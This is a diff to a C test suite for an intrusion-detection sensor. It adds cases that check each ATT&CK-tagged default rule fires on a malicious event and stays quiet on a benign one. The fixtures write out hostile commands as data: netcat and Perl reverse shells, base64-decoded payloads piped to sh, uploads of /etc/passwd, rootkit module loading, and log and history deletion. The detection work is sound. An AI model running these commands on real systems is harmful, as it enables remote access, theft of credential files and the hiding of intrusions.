@@ -36,6 +36,10 @@ static const struct {
 	{ "rule x severity=high\n desc \"d\"\n desc \"e\"\n", "once" },
 	{ "rule x severity=high\n desc \"d\"\"e\"\n", "text right after a closing quote" },
 	{ "\"rule\" x\n", "not a string" },
+	{ "rule x severity=high\n tags\n", "needs at least one tag" },
+	{ "rule x severity=high\n tags T1 \"T2\"\n", "bad tag" },
+	{ "rule x severity=high\n tags T1\n tags T2\n", "'tags' twice" },
+	{ "rule x severity=high\n tags a$b\n", "bad tag" },
 };
 
 Test(rules_parse, errors_name_the_line_and_reason)
@@ -111,7 +115,7 @@ static const struct case_ cases[] = {
 	  { EX, "c", { { "exec.path", "/bin/sh" }, { "exec.parent_exe", "/usr/sbin/sshd" } } } },
 	{ "shell-interactive-netcat",
 	  { EX, "c", { { "exec.path", "/usr/bin/nc" } }, { "nc", "-e", "/bin/sh", "203.0.113.5", "4444" } },
-	  { EX, "c", { { "exec.path", "/usr/bin/nc" } }, { "nc", "-z", "10.0.0.1", "80" } } },
+	  { EX, "c", { { "exec.path", "/usr/bin/nc" } }, { "nc", "-v", "10.0.0.1", "80" } } },
 	{ "write-binary-dir",
 	  { FI, "c", { { "file.op", "write" }, { "file.path", "/usr/bin/ls" } } },
 	  { FI, "c", { { "file.op", "open" }, { "file.path", "/usr/bin/ls" } } } },
@@ -139,6 +143,82 @@ static const struct case_ cases[] = {
 	{ "miner-stratum-arg",
 	  { EX, "c", { { "exec.path", "/tmp/.x/kworker" } }, { "kworker", "-o", "stratum+tcp://pool.example:3333" } },
 	  { EX, "c", { { "exec.path", "/usr/bin/curl" } }, { "curl", "https://example.com" } } },
+	{ "container-drift",
+	  { EX, "c", { { "exec.path", "/tmp/x" }, { "exec.drift", "1" } } },
+	  { EX, NULL, { { "exec.path", "/tmp/x" }, { "exec.drift", "1" } } } },
+	{ "persistence-write",
+	  { FI, "c", { { "file.op", "create" }, { "file.path", "/root/.ssh/authorized_keys" } } },
+	  { FI, "c", { { "file.op", "open" }, { "file.path", "/root/.ssh/authorized_keys" } } } },
+	{ "persistence-tool",
+	  { EX, "c", { { "exec.path", "/usr/bin/crontab" } } },
+	  { EX, "c", { { "exec.path", "/usr/bin/cron-report" } } } },
+	{ "setuid-bit",
+	  { EX, "c", { { "exec.path", "/bin/chmod" } }, { "chmod", "u+s", "/tmp/x" } },
+	  { EX, "c", { { "exec.path", "/bin/chmod" } }, { "chmod", "0644", "/tmp/x" } } },
+	{ "shell-interactive-tty",
+	  { EX, "c", { { "exec.path", "/bin/bash" }, { "process.tty", "pts0" } } },
+	  { EX, "c", { { "exec.path", "/bin/bash" }, { "process.tty", "(none)" } } } },
+	{ "shell-interactive-flag",
+	  { EX, "c", { { "exec.path", "/bin/sh" } }, { "sh", "-i" } },
+	  { EX, "c", { { "exec.path", "/bin/sh" } }, { "sh", "-c", "ls" } } },
+	{ "reverse-shell-interpreter",
+	  { EX, "c", { { "exec.path", "/usr/bin/perl" }, { "process.cmdline", "perl -e use Socket;connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")));exec(\"/bin/sh -i\")" } },
+	    { "perl", "-e", "use Socket;connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")));exec(\"/bin/sh -i\")" } },
+	  { EX, "c", { { "exec.path", "/usr/bin/perl" }, { "process.cmdline", "perl -e print 1" } }, { "perl", "-e", "print 1" } } },
+	{ "kernel-module-tool",
+	  { EX, "c", { { "exec.path", "/sbin/insmod" } }, { "insmod", "/tmp/rootkit.ko" } },
+	  { EX, "c", { { "exec.path", "/sbin/ifconfig" } } } },
+	{ "container-ns-tool",
+	  { EX, "c", { { "exec.path", "/usr/bin/nsenter" } }, { "nsenter", "-t", "1", "-m" } },
+	  { EX, NULL, { { "exec.path", "/usr/bin/nsenter" } }, { "nsenter", "-t", "1", "-m" } } },
+	{ "setuid-bit-syscall",
+	  { FI, "c", { { "file.op", "attrib" }, { "file.path", "/tmp/x" }, { "file.mode", "2541" } } },
+	  { FI, "c", { { "file.op", "attrib" }, { "file.path", "/tmp/x" }, { "file.mode", "493" } } } },
+	{ "identity-change-root",
+	  { SY, "c", { { "syscall.name", "setuid" }, { "syscall.arg0", "0" }, { "syscall.ret", "-1" } } },
+	  { SY, "c", { { "syscall.name", "setuid" }, { "syscall.arg0", "33" } } } },
+	{ "identity-tool",
+	  { EX, "c", { { "exec.path", "/bin/su" } }, { "su", "root" } },
+	  { EX, "c", { { "exec.path", "/bin/sum" } } } },
+	{ "decoded-payload-shell",
+	  { EX, "c", { { "exec.path", "/bin/sh" }, { "process.cmdline", "sh -c echo aWQK | base64 -d | sh" } }, { "sh", "-c", "echo aWQK | base64 -d | sh" } },
+	  { EX, "c", { { "exec.path", "/bin/sh" }, { "process.cmdline", "sh -c echo aWQK | base64 -d > /tmp/out" } }, { "sh", "-c", "echo aWQK | base64 -d > /tmp/out" } } },
+	{ "network-tool-listener",
+	  { EX, "c", { { "exec.path", "/usr/bin/nc" } }, { "nc", "-lvp", "4444" } },
+	  { EX, "c", { { "exec.path", "/usr/bin/nc" } }, { "nc", "-v", "10.0.0.1", "80" } } },
+	{ "network-tool-listen-syscall",
+	  { NE, "c", { { "net.op", "listen" }, { "process.cmdline", "nc -l -p 4444" } } },
+	  { NE, "c", { { "net.op", "listen" }, { "process.cmdline", "nginx -g daemon off;" } } } },
+	{ "network-tool-connect",
+	  { NE, "c", { { "net.op", "connect" }, { "process.cmdline", "nc 10.0.0.1 80" }, { "net.dst", "10.0.0.1" }, { "net.dport", "80" } } },
+	  { NE, "c", { { "net.op", "connect" }, { "process.cmdline", "wget http://10.0.0.1/" }, { "net.dst", "10.0.0.1" }, { "net.dport", "80" } } } },
+	{ "network-scan",
+	  { EX, "c", { { "exec.path", "/usr/bin/nc" } }, { "nc", "-zv", "10.0.0.1", "1-1024" } },
+	  { EX, "c", { { "exec.path", "/usr/bin/nc" } }, { "nc", "10.0.0.1", "80" } } },
+	{ "exfil-upload",
+	  { EX, "c", { { "exec.path", "/usr/bin/wget" } }, { "wget", "--post-file=/etc/passwd", "http://x/" } },
+	  { EX, "c", { { "exec.path", "/usr/bin/wget" } }, { "wget", "-q", "http://x/" } } },
+	{ "exfil-upload-curl",
+	  { EX, "c", { { "exec.path", "/usr/bin/curl" } }, { "curl", "-T", "/etc/passwd", "http://x/" } },
+	  { EX, "c", { { "exec.path", "/usr/bin/curl" } }, { "curl", "-s", "http://x/" } } },
+	{ "suid-discovery",
+	  { EX, "c", { { "exec.path", "/usr/bin/find" } }, { "find", "/", "-perm", "-4000" } },
+	  { EX, "c", { { "exec.path", "/usr/bin/find" } }, { "find", "/", "-perm", "-0644" } } },
+	{ "credential-search",
+	  { EX, "c", { { "exec.path", "/bin/grep" } }, { "grep", "-ri", "password", "/etc" } },
+	  { EX, "c", { { "exec.path", "/bin/grep" } }, { "grep", "-i", "error", "/var/log/app.log" } } },
+	{ "history-tamper",
+	  { FI, "c", { { "file.op", "delete" }, { "file.path", "/root/.bash_history" } } },
+	  { FI, "c", { { "file.op", "open" }, { "file.path", "/root/.bash_history" } } } },
+	{ "log-tamper",
+	  { FI, "c", { { "file.op", "delete" }, { "file.path", "/var/log/auth.log" } } },
+	  { FI, "c", { { "file.op", "create" }, { "file.path", "/var/log/app.log" } } } },
+	{ "timestomp",
+	  { EX, "c", { { "exec.path", "/bin/touch" } }, { "touch", "-r", "/bin/ls", "/tmp/x" } },
+	  { EX, "c", { { "exec.path", "/bin/touch" } }, { "touch", "/tmp/x" } } },
+	{ "fileless-exec",
+	  { EX, "c", { { "exec.path", "/proc/self/fd/3" }, { "process.exe", "/memfd:payload (deleted)" } } },
+	  { EX, "c", { { "exec.path", "/proc/self/fd/3" }, { "process.exe", "/memfd:runc_cloned:/proc/self/exe (deleted)" } } } },
 };
 
 static void emit_spec(struct tb *t, const struct evspec *s, uint64_t at)
@@ -149,6 +229,12 @@ static void emit_spec(struct tb *t, const struct evspec *s, uint64_t at)
 	for (int i = 0; i < 6 && s->f[i].name; i++) {
 		int f = sensor_field_from_name(s->f[i].name);
 
+		if (strcmp(s->f[i].name, "syscall.arg0") == 0) {
+			uint64_t a = strtoull(s->f[i].value, NULL, 10);
+
+			cr_assert_eq(sensor_event_set_args(ev, &a, 1), 0);
+			continue;
+		}
 		cr_assert_gt(f, 0, "%s", s->f[i].name);
 		if (sensor_field_type((enum sensor_field)f) == SENSOR_FIELD_TYPE_INT)
 			cr_assert_eq(sensor_event_set_int(ev, (enum sensor_field)f,
@@ -193,6 +279,40 @@ Test(default_rules, each_fires_and_each_stays_quiet)
 			     cases[k].rule, t.n);
 		tb_close(&t);
 	}
+}
+
+/* Rules carry MITRE ATT&CK tags, and so do their alerts. */
+Test(default_rules, every_rule_and_its_alert_carry_tags)
+{
+	static const char text[] = "rule t severity=high\n desc \"d\"\n tags T1611 TA0004 container\n"
+				   " kind = syscall\n syscall.name = setuid\n syscall.arg0 < 1\nend\n";
+	struct ruleset *rs;
+	char err[128], path[] = "/tmp/rules-tags-XXXXXX";
+	struct sensor_baseline_opts o = { .sz = sizeof(o), .rules_path = path };
+	uint64_t a0 = 0;
+	sensor_event *ev;
+	struct tb t;
+	int fd;
+
+	cr_assert_eq(rules_parse(rules_default_text, rules_default_len, &rs, err, sizeof(err)), 0);
+	for (unsigned i = 0; i < rs->n; i++)
+		cr_expect(rs->rules[i].ntags > 0 && strchr(rs->rules[i].tags, 'T') != NULL,
+			  "rule %s has no MITRE tag", rs->rules[i].id);
+	rules_free(rs);
+	fd = mkstemp(path);
+	cr_assert_geq(fd, 0);
+	cr_assert_eq(write(fd, text, sizeof(text) - 1), (ssize_t)sizeof(text) - 1);
+	close(fd);
+	tb_open(&t, &o);
+	ev = tb_new(&t, SENSOR_KIND_SYSCALL, "c", NULL, T0);
+	cr_assert_eq(sensor_event_set_str(ev, SENSOR_FIELD_SYSCALL_NAME, "setuid"), 0);
+	cr_assert_eq(sensor_event_set_args(ev, &a0, 1), 0);
+	tb_emit(&t, ev);
+	cr_assert_eq(t.n, 1);
+	cr_assert(strstr(t.a[0].json, "\"tags\":[\"T1611\",\"TA0004\",\"container\"]") != NULL, "%s",
+		  t.a[0].json);
+	tb_close(&t);
+	unlink(path);
 }
 
 Test(default_rules, custom_rules_file_replaces_defaults)
@@ -269,8 +389,12 @@ Test(default_rules, every_value_of_every_condition_fires)
 		cr_assert_not_null(r, "%s", cases[k].rule);
 		for (unsigned j = 0; j < r->nconds; j++) {
 			const struct rule_cond *c = &r->conds[j];
-			const char *fname = c->field == RULE_FIELD_ARGV ? "exec.argv"
-								       : sensor_field_name((enum sensor_field)c->field);
+			const char *fname;
+
+			if (c->field <= RULE_FIELD_ARG0)
+				continue; /* syscall.argN: the case's own event sets the register */
+			fname = c->field == RULE_FIELD_ARGV ? "exec.argv"
+							   : sensor_field_name((enum sensor_field)c->field);
 
 			if (c->field == SENSOR_FIELD_KIND || (c->op != ROP_EQ && c->op != ROP_GLOB &&
 							      c->op != ROP_PREFIX && c->op != ROP_CONTAINS))
